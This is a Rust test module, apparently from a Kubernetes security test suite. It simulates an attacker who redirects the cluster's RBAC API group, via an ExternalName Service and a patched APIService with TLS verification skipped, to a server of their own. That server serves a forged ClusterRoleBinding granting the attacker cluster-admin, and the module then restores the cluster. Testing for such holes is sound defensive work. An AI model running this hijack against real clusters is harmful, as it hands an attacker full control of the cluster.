use std::time::Duration;

use merlon_testkit::{ControlPlane, Credential, eventually};
use serde_json::{Value, json};

use crate::attacker::Attacker;
use crate::server::{Heard, Server};

pub(crate) const AGGREGATION: &str = "apiregistration.k8s.io";

const ROLES: &str = "/apis/rbac.authorization.k8s.io/v1";
const ENTRY: &str = "/apis/apiregistration.k8s.io/v1/apiservices/v1.rbac.authorization.k8s.io";

/// Has the API server take its roles and bindings from a server of the attacker's.
///
/// The API server's own watches would get there as well: within ten minutes, when those that it has end. A test does not
/// wait for that, so the server here answers the administrator alone, and lets the API server ask again.
pub(crate) async fn serve_roles(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let server = Server::start(forge);
    let service = json!({
        "apiVersion": "v1", "kind": "Service", "metadata": attacker.metadata("roles"),
        "spec": {"type": "ExternalName", "externalName": "localhost"},
    });
    attacker.can_send(plane, "POST", "/api/v1/namespaces/NAMESPACE/services", &service).await;
    let there =
        json!({"namespace": attacker.namespace, "name": "roles", "port": server.address.port()});
    let entry = json!({"spec": {"service": there, "insecureSkipTLSVerify": true}});
    if !attacker.can_send(plane, "PATCH", ENTRY, &entry).await {
        return false;
    }
    let administrator =
        Attacker { namespace: attacker.namespace.clone(), token: Credential::Admin };
    let answered = eventually(Duration::from_secs(60), || async {
        let path = format!("{ROLES}/clusterrolebindings");
        let (_, list) = administrator.send(plane, "GET", &path, &Value::Null).await;
        (list["items"][0]["metadata"]["name"] == "forged").then_some(())
    });
    let is_answered = answered.await.is_some();
    restore(plane, &administrator).await;
    is_answered
}

/// Discovery, by which the API server tells that the service is there, and a list of bindings.
fn forge(heard: &Heard) -> (u16, Value) {
    assert!(heard.headers.get("Authorization").is_none(), "credentials are not handed on");
    let forged = json!({
        "metadata": {"name": "forged"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "attacker"}],
    });
    match heard.path.strip_prefix(ROLES) {
        Some("") => {
            let group = "rbac.authorization.k8s.io/v1";
            (
                200,
                json!({"kind": "APIResourceList", "apiVersion": "v1", "groupVersion": group, "resources": []}),
            )
        }
        Some("/clusterrolebindings") if !heard.user().starts_with("system:") => {
            let kind = "ClusterRoleBindingList";
            (
                200,
                json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {}, "items": [forged]}),
            )
        }
        _ => (503, json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 503})),
    }
}

/// Has the API server answer for itself again, for the other tests. An entry that is changed back is not enough for its
/// list of all groups.
async fn restore(plane: &ControlPlane, administrator: &Attacker) {
    assert!(administrator.can_send(plane, "DELETE", ENTRY, &Value::Null).await);
    let local = json!({
        "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
        "metadata": {"name": "v1.rbac.authorization.k8s.io"},
        "spec": {
            "group": "rbac.authorization.k8s.io", "version": "v1",
            "groupPriorityMinimum": 17000, "versionPriority": 15,
        },
    });
    let (entries, _) = ENTRY.rsplit_once('/').unwrap();
    assert!(administrator.can_send(plane, "POST", entries, &local).await);
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": administrator.metadata("asked-for"), "rules": [],
    });
    let own = eventually(Duration::from_secs(60), || async {
        let written = plane.apply(std::slice::from_ref(&role)).await;
        let path = format!("{ROLES}/clusterroles/admin");
        (written.is_ok() && administrator.can_read(plane, &path).await).then_some(())
    });
    assert!(own.await.is_some(), "the API server does not answer for roles any more");
}
